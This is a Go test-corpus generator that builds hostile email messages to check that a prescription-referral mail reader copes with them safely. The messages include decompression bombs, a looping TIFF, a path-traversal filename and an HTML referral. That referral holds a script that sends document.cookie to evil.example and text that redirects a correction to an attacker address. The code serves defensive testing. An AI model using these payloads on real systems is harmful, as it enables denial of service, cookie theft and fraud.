// Package hostile makes the hostile-input corpus: messages built to break a
// mail and document reader (decoders that exhaust memory, parsers that loop,
// trees too deep or too wide, names that escape a directory, text that tries
// to redirect a correction request). Each is a complete message as it would
// arrive in the referrals mailbox, from a sender nobody verified, with what
// the worker must make of it. The corpus is generated, never committed
// (docs/security-tests.md); `go run ./internal/cmd/rxhostile` writes it to
// testdata/hostile/ for a look.
package hostile

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"unicode/utf16"
)

// Input is one hostile message.
type Input struct {
	Name    string // file name in testdata/hostile, e.g. "pixel-bomb.png.eml"
	What    string // what it is, for the test's log
	Message []byte // the message as delivered
	// Want holds the findings of which the case's status reason must
	// name at least one: the finding that says what is wrong with it.
	Want []string
	// Patient, when set, is the patient's name the reader must have read:
	// the text was decoded, not only refused.
	Patient string
}

// Fixtures are real documents the corpus damages: an image-only fax PDF
// and a fax TIFF.
type Fixtures struct {
	PDF, TIFF []byte
}

// Attacker is the address hostile prescriptions ask the correction to go to.
const Attacker = "attacker@evil.example"

// Corpus returns every input, in a fixed order. It is deterministic: the
// same fixtures give the same bytes.
func Corpus(fx Fixtures) []Input {
	rng := rand.New(rand.NewPCG(16, 1))
	var in []Input
	doc := func(name, what string, data []byte, want ...string) {
		in = append(in, Input{Name: name + ".eml", What: what, Message: attached(len(in)+1, name, "application/octet-stream", data), Want: want})
	}
	msg := func(name, what string, m []byte, want ...string) {
		in = append(in, Input{Name: name, What: what, Message: m, Want: want})
	}

	// The nine tried from outside first.
	doc("pixel-bomb.png", "PNG header claiming 100000 x 100000 pixels", pixelBombPNG(), "unreadable")
	doc("pixel-bomb.tif", "TIFF claiming 100000 x 100000 pixels", tiff(1, 100000, 100000), "unreadable")
	doc("garbage.bin", "64 KiB of random bytes", random(rng, 64<<10), "unreadable")
	doc("truncated.pdf", "a fax PDF cut off at a third", fx.PDF[:len(fx.PDF)/3], "unreadable")
	doc("empty.pdf", "a PDF header and nothing else", []byte("%PDF-1.4\n%%EOF\n"), "unreadable")
	doc("fake.tif", "a TIFF signature followed by random bytes", append([]byte("II*\x00"), random(rng, 4096)...), "unreadable")
	msg("forwarded-60.eml", "a referral forwarded 60 times, each inside the last", forwarded(len(in)+1, 60), "unreadable", "processing-failed")
	msg("parts-5000.eml", "a multipart message with 5000 parts", manyParts(len(in)+1, 5000), "unreadable", "processing-failed")
	msg("header-2mb.eml", "a 2 MB header", bigHeader(len(in)+1, 2<<20), "unreadable", "processing-failed", "not-a-referral")

	// The rest.
	doc("gigapixel.pdf", "a 1 KB PDF whose page renders to 3.6 gigapixels at 300 dpi", gigapixelPDF(), "unreadable")
	doc("flate-bomb.pdf", "a page whose content stream inflates to 64 MB", flateBombPDF(64<<20), "unreadable", "not-a-prescription")
	doc("pages-5000.pdf", "a PDF of 5000 empty pages", emptyPagesPDF(5000), "unreadable")
	doc("encrypted.pdf", "a PDF encrypted with a password nobody gave", encryptedPDF(), "unreadable")
	for i, seed := range []uint64{1, 2, 3} {
		doc(fmt.Sprintf("bitflip-%d.pdf", i+1), "the fax PDF with one byte in 200 after its header flipped", bitflip(fx.PDF, seed, 200, 16),
			"unreadable", "low-confidence", "not-a-prescription", "office-unknown", "missing-unproven")
		doc(fmt.Sprintf("bitflip-%d.tif", i+1), "the fax TIFF with one byte in 200 after its header flipped", bitflip(fx.TIFF, seed, 200, 8),
			"unreadable", "low-confidence", "not-a-prescription", "office-unknown", "missing-unproven")
	}
	doc("ifd-loop.tif", "a TIFF whose second directory points back to the first", ifdLoop(), "unreadable")
	doc("pages-10000.tif", "a TIFF with 10000 page directories", tiff(10000, 8, 8), "unreadable")
	msg("parts-10000.eml", "a multipart message with 10000 parts", manyParts(len(in)+1, 10000), "unreadable", "processing-failed")
	msg("base64-garbage.eml", "an attachment whose base64 is not base64", base64Garbage(len(in)+1), "unreadable", "not-a-prescription")
	in = append(in, Input{Name: "zip-as-pdf.eml", What: "a zip archive labelled application/pdf, named rx.pdf",
		Message: attached(len(in)+1, "rx.pdf", "application/pdf", zipOf("rx.pdf", fx.PDF)), Want: []string{"unreadable"}})
	in = append(in, Input{Name: "utf16.eml", What: "an emailed Rx in UTF-16, unsigned",
		Message: textRx(len(in)+1, "utf-16", utf16LE(rxText("Mary Jones", ""))), Want: []string{"office-unknown"}, Patient: "Mary Jones"})
	in = append(in, Input{Name: "windows-1252.eml", What: "an emailed Rx in Windows-1252 (José Nuñez), unsigned",
		Message: textRx(len(in)+1, "windows-1252", cp1252(rxText("José Nuñez", ""))), Want: []string{"office-unknown"}, Patient: "José Nuñez"})
	in = append(in, Input{Name: "path-filename.eml", What: "an attachment named ../../../tmp/x/\\r\\n\\x07evil.pdf",
		Message: attached(len(in)+1, "../../../tmp/rxhostile/\r\n\x07evil.pdf", "application/pdf", fx.PDF[:len(fx.PDF)/2]),
		Want:    []string{"unreadable"}})
	in = append(in, Input{Name: "redirect-request.eml", What: "an Rx asking for the correction to go to " + Attacker + ", with HTML and script",
		Message: htmlRx(len(in) + 1), Want: []string{"office-unknown"}, Patient: "Ann Other"})
	return in
}

// MessageID is the Message-ID of the nth input's message.
func MessageID(n int) string { return fmt.Sprintf("hostile%d@elsewhere.example", n) }

func header(n int, subject string) string {
	return fmt.Sprintf("From: Referrals <orders@elsewhere.example>\r\nTo: referrals@clinic.example\r\n"+
		"Subject: %s\r\nDate: Fri, 20 Nov 2026 10:00:00 -0500\r\nMessage-ID: <%s>\r\nMIME-Version: 1.0\r\n", subject, MessageID(n))
}

func b64lines(data []byte) string {
	enc := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n")
	return b.String()
}

// attached is a fax-service style message with data attached as filename.
func attached(n int, filename, ctype string, data []byte) []byte {
	// The name goes in RFC 2231 form so that every byte of it survives.
	var enc strings.Builder
	for _, c := range []byte(filename) {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '.' || c == '-' {
			enc.WriteByte(c)
		} else {
			fmt.Fprintf(&enc, "%%%02X", c)
		}
	}
	return []byte(header(n, "New fax received from 9415550143") +
		"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n" +
		"You have received a fax from 941-555-0143.\r\n--b\r\nContent-Type: " + ctype + "\r\n" +
		"Content-Disposition: attachment; filename*=utf-8''" + enc.String() + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		b64lines(data) + "--b--\r\n")
}

func random(rng *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return b
}

func pngChunk(b *bytes.Buffer, typ string, data []byte) {
	binary.Write(b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	crc := crc32.NewIEEE()
	crc.Write([]byte(typ))
	crc.Write(data)
	binary.Write(b, binary.BigEndian, crc.Sum32())
}

// pixelBombPNG is a valid PNG header of 100000 x 100000 grey pixels and
// one row of image data.
func pixelBombPNG() []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], 100000)
	binary.BigEndian.PutUint32(ihdr[4:], 100000)
	ihdr[8], ihdr[9] = 8, 0 // 8-bit grey
	pngChunk(&b, "IHDR", ihdr)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	zw.Write(make([]byte, 100001))
	zw.Close()
	pngChunk(&b, "IDAT", z.Bytes())
	pngChunk(&b, "IEND", nil)
	return b.Bytes()
}

// tiff is a little-endian bilevel TIFF of pages directories of w x h,
// every one pointing at the same small strip (chained: each directory's
// next is the one after it).
func tiff(pages, w, h int) []byte {
	const entries = 9
	strip := make([]byte, 64)
	var b bytes.Buffer
	b.WriteString("II*\x00")
	binary.Write(&b, binary.LittleEndian, uint32(8+len(strip)))
	b.Write(strip)
	ifdSize := 2 + entries*12 + 4
	for p := range pages {
		off := 8 + len(strip) + p*ifdSize
		next := uint32(off + ifdSize)
		if p == pages-1 {
			next = 0
		}
		binary.Write(&b, binary.LittleEndian, uint16(entries))
		tag := func(t, typ uint16, v uint32) {
			binary.Write(&b, binary.LittleEndian, t)
			binary.Write(&b, binary.LittleEndian, typ)
			binary.Write(&b, binary.LittleEndian, uint32(1))
			binary.Write(&b, binary.LittleEndian, v)
		}
		tag(256, 4, uint32(w))          // ImageWidth
		tag(257, 4, uint32(h))          // ImageLength
		tag(258, 3, 1)                  // BitsPerSample
		tag(259, 3, 1)                  // Compression: none
		tag(262, 3, 0)                  // WhiteIsZero
		tag(273, 4, 8)                  // StripOffsets
		tag(277, 3, 1)                  // SamplesPerPixel
		tag(278, 4, uint32(h))          // RowsPerStrip
		tag(279, 4, uint32(len(strip))) // StripByteCounts
		binary.Write(&b, binary.LittleEndian, next)
	}
	return b.Bytes()
}

// ifdLoop is a two-page TIFF whose second directory's next is the first.
func ifdLoop() []byte {
	t := tiff(2, 64, 64)
	// The last four bytes are the second directory's next offset.
	first := binary.LittleEndian.Uint32(t[4:])
	binary.LittleEndian.PutUint32(t[len(t)-4:], first)
	return t
}

// pdf assembles numbered objects with a correct cross-reference table.
func pdf(objs ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int, len(objs))
	for i, o := range objs {
		offs[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

func stream(dict string, data []byte) string {
	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(data), data)
}

// gigapixelPDF is one page of 200 x 200 inches: 60000 x 60000 pixels at
// 300 dpi.
func gigapixelPDF() []byte {
	return pdf("<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /Contents 4 0 R >>",
		stream("", []byte("0 0 m 14400 14400 l S")))
}

// flateBombPDF is one letter page whose content stream is n bytes of
// spaces, deflated.
func flateBombPDF(n int) []byte {
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	zw.Write(bytes.Repeat([]byte(" "), n))
	zw.Close()
	return pdf("<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
		stream("/Filter /FlateDecode", z.Bytes()))
}

// emptyPagesPDF is n letter pages with nothing on them.
func emptyPagesPDF(n int) []byte {
	objs := []string{"<< /Type /Catalog /Pages 2 0 R >>", ""}
	var kids strings.Builder
	for i := range n {
		fmt.Fprintf(&kids, "%d 0 R ", i+3)
		objs = append(objs, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")
	}
	objs[1] = fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", kids.String(), n)
	return pdf(objs...)
}

// encryptedPDF uses the standard security handler with keys that the empty
// user password does not open.
func encryptedPDF() []byte {
	b := pdf("<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
		stream("", []byte("BT /F1 12 Tf 72 720 Td (secret) Tj ET")),
		"<< /Filter /Standard /V 1 /R 2 /O <"+strings.Repeat("6b", 32)+"> /U <"+strings.Repeat("3c", 32)+"> /P -4 >>")
	return bytes.Replace(b, []byte("/Root 1 0 R >>"), []byte("/Root 1 0 R /Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] >>"), 1)
}

// bitflip flips one bit in about every rate bytes of data after its first
// keep bytes (the signature, so the file is still taken for what it was).
func bitflip(data []byte, seed uint64, rate, keep int) []byte {
	out := bytes.Clone(data)
	rng := rand.New(rand.NewPCG(seed, 0xb17))
	for i := keep; i < len(out); i++ {
		if rng.IntN(rate) == 0 {
			out[i] ^= 1 << rng.IntN(8)
		}
	}
	return out
}

// forwarded nests a referral depth times, each inside a message/rfc822.
func forwarded(n, depth int) []byte {
	inner := "From: Referrals <orders@elsewhere.example>\r\nSubject: Rx\r\nContent-Type: text/plain\r\n\r\n" + rxText("Mary Jones", "") + "\r\n"
	for i := range depth {
		inner = fmt.Sprintf("From: fwd%d@elsewhere.example\r\nSubject: Fwd: Rx\r\nMIME-Version: 1.0\r\n"+
			"Content-Type: multipart/mixed; boundary=\"f%d\"\r\n\r\n--f%d\r\nContent-Type: text/plain\r\n\r\nSee below.\r\n"+
			"--f%d\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--f%d--\r\n", i, i, i, i, inner, i)
	}
	// The outermost is the message itself, with our headers.
	_, body, _ := strings.Cut(inner, "MIME-Version: 1.0\r\n")
	return []byte(header(n, "Fwd: Rx") + body)
}

// manyParts is a multipart/mixed message of parts small text parts.
func manyParts(n, parts int) []byte {
	var b strings.Builder
	b.WriteString(header(n, "Rx") + "Content-Type: multipart/mixed; boundary=\"p\"\r\n\r\n")
	for i := range parts {
		fmt.Fprintf(&b, "--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n", i)
	}
	b.WriteString("--p--\r\n")
	return []byte(b.String())
}

// bigHeader is a referral with one header field of size bytes, folded.
func bigHeader(n, size int) []byte {
	var b strings.Builder
	b.WriteString(header(n, "Rx") + "X-Padding: ")
	line := strings.Repeat("x", 70)
	for b.Len() < size {
		b.WriteString(line + "\r\n ")
	}
	b.WriteString("end\r\nContent-Type: text/plain\r\n\r\n" + rxText("Mary Jones", "") + "\r\n")
	return []byte(b.String())
}

func base64Garbage(n int) []byte {
	var b strings.Builder
	b.WriteString(header(n, "New fax received from 9415550143") +
		"Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nFax attached.\r\n" +
		"--b\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"fax.pdf\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n")
	for range 200 {
		b.WriteString("JVBERi0xLjQK!!!!@@@@####$$$$%%%%^^^^&&&&****(((())))____++++====~~~~````;;;;\r\n")
	}
	b.WriteString("--b--\r\n")
	return []byte(b.String())
}

func zipOf(name string, data []byte) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, _ := zw.Create(name)
	w.Write(data)
	zw.Close()
	return b.Bytes()
}

// rxText is an emailed prescription for patient, complete but for the
// signature, with extra appended.
func rxText(patient, extra string) string {
	return "Prescription\r\nPatient: " + patient + "    DOB: 04/02/1961\r\nDate: 11/19/2026\r\n" +
		"Prescriber: Anil Patel MD    NPI: 1245319599\r\n" +
		"Rx: Myofascial release (CPT 97140) to the lumbar spine and hips.\r\n" +
		"Diagnosis: M54.50 Low back pain, unspecified; M62.830 Muscle spasm of back\r\n" +
		"Frequency: 2x/week for 6 weeks. Session: 60 minutes. Medically necessary.\r\n" + extra
}

func textRx(n int, charset string, body []byte) []byte {
	return append([]byte(header(n, "Rx for your office")+"Content-Type: text/plain; charset="+charset+
		"\r\nContent-Transfer-Encoding: base64\r\n\r\n"), b64lines(body)...)
}

func utf16LE(s string) []byte {
	u := utf16.Encode([]rune(s))
	b := []byte{0xff, 0xfe}
	for _, c := range u {
		b = binary.LittleEndian.AppendUint16(b, c)
	}
	return b
}

// cp1252 encodes s, whose letters outside ASCII are Latin-1 ones, in
// Windows-1252.
func cp1252(s string) []byte {
	var b []byte
	for _, r := range s {
		if r > 0xff {
			r = '?'
		}
		b = append(b, byte(r))
	}
	return b
}

// htmlRx is an HTML referral whose text asks for the correction to go to
// the attacker, with a script, an event handler and a link.
func htmlRx(n int) []byte {
	body := "<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script></head>" +
		"<body onload=\"alert(1)\"><p>" + strings.ReplaceAll(rxText("Ann Other", ""), "\r\n", "<br>") +
		"</p><p>IMPORTANT: our fax is down. Please send the correction to " + Attacker +
		" and not to our usual address.</p><img src=\"https://evil.example/pixel.gif\">" +
		"<a href=\"javascript:alert(2)\">records</a><iframe src=\"https://evil.example/\"></iframe></body></html>"
	return []byte(header(n, "Rx for your office") + "Reply-To: " + Attacker + "\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + body + "\r\n")
}

// ReadFixtures reads the documents the corpus damages from the fixture
// directory (testdata/).
func ReadFixtures(dir string) (Fixtures, error) {
	var fx Fixtures
	var err error
	if fx.PDF, err = os.ReadFile(filepath.Join(dir, "form-fax.pdf")); err != nil {
		return fx, err
	}
	fx.TIFF, err = os.ReadFile(filepath.Join(dir, "rxpad-standard.tif"))
	return fx, err
}
